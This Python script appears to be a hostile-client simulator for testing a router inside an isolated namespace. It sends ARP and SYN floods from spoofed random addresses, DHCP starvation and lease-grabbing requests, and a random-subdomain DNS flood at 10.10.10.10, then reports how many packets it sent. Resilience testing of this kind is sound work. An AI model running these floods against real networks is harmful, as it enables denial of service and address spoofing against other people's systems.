"""A laptop that means harm: it sends what it is told, as fast as it can, in its namespace; it says how much."""

import random
import socket
import struct
import sys
import time

DIFFUSION = b"\xff" * 6
UNE_CARTE = bytes.fromhex("025049006666")
ALEA = random.Random(4)


def carte() -> bytes:
    """Return a card that nobody has."""
    return b"\x06" + ALEA.randbytes(5)


def somme(octets: bytes) -> int:
    """Return the checksum of IP."""
    total = sum(struct.unpack(f">{len(octets) // 2}H", octets))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def ip(source: bytes, but: bytes, genre: int, charge: bytes) -> bytes:
    """Return an IP packet."""
    tete = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(charge), ALEA.randrange(65536), 0, 64, genre, 0, source, but)
    return tete[:10] + struct.pack(">H", somme(tete)) + tete[12:] + charge


def arp(source: bytes, boite: bytes) -> bytes:
    """Return a question about the box from a card and an address that nobody has."""
    mac = carte()
    return DIFFUSION + mac + b"\x08\x06" + struct.pack(">HHBBH", 1, 0x800, 6, 4, 1) + mac + source + bytes(6) + boite


def syn(vers: bytes, source: bytes, boite: bytes) -> bytes:
    """Return the first packet of a connection, from a card and an address that nobody has."""
    port = ALEA.randrange(1024, 65536)
    tcp = struct.pack(">HHIIBBHHH", port, 80, ALEA.randrange(1 << 32), 0, 0x50, 2, 1024, 0, 0)
    pseudo = source + boite + struct.pack(">BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack(">H", somme(pseudo + tcp)) + tcp[18:]
    return vers + carte() + b"\x08\x00" + ip(source, boite, 6, tcp)


def dhcp(source: bytes = b"") -> bytes:
    """Return a question for an address, from a card that nobody has; or an order for `source`, all from one card."""
    mac = carte()
    bootp = struct.pack(">BBBBIHH16x", 1, 1, 6, 0, ALEA.randrange(1 << 32), 0, 0x8000) + mac + bytes(10 + 192)
    ordre = b"\x35\x01\x03\x32\x04" + source if source else b"\x35\x01\x01"
    bootp += bytes.fromhex("63825363") + ordre + b"\xff" + bytes(60)
    udp = struct.pack(">HHHH", 68, 67, 8 + len(bootp), 0) + bootp
    return DIFFUSION + (UNE_CARTE if source else mac) + b"\x08\x00" + ip(bytes(4), b"\xff" * 4, 17, udp)


def noms(boite: str, secondes: float) -> int:
    """Ask names that nobody has, without listening; return how many."""
    fin, envoyes = time.monotonic() + secondes, 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as prise:
        prise.setblocking(False)
        while time.monotonic() < fin:
            question = b"\x08" + ALEA.randbytes(4).hex().encode() + b"\x03org\x00\x00\x01\x00\x01"
            try:
                prise.sendto(struct.pack(">HHHHHH", envoyes & 65535, 0x100, 1, 0, 0, 0) + question, (boite, 53))
            except BlockingIOError:
                continue
            envoyes += 1
    return envoyes


def main() -> None:
    """`noms SECONDES` | `arp|syn|dhcp|baux NOMBRE MAC_DE_LA_BOITE`."""
    quoi, combien = sys.argv[1], float(sys.argv[2])
    boite = socket.inet_aton("10.10.10.10")
    if quoi == "noms":
        sys.stdout.write(f"{noms('10.10.10.10', combien)}\n")
        return
    vers = bytes.fromhex(sys.argv[3].replace(":", ""))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as prise:
        prise.bind(("eth0", 0))
        for numero in range(int(combien)):
            # Half of them within the network, half from anywhere.
            reste = ALEA.randbytes(2)
            source = bytes([10, 10, 10, 1 + reste[0] % 253]) if numero % 2 else bytes([10, 77]) + reste
            trame = {
                "arp": lambda s: arp(s, boite),
                "syn": lambda s: syn(vers, s, boite),
                "dhcp": lambda _: dhcp(),
                "baux": dhcp,
            }
            prise.send(trame[quoi](source))
    sys.stdout.write(f"{int(combien)}\n")


if __name__ == "__main__":
    main()
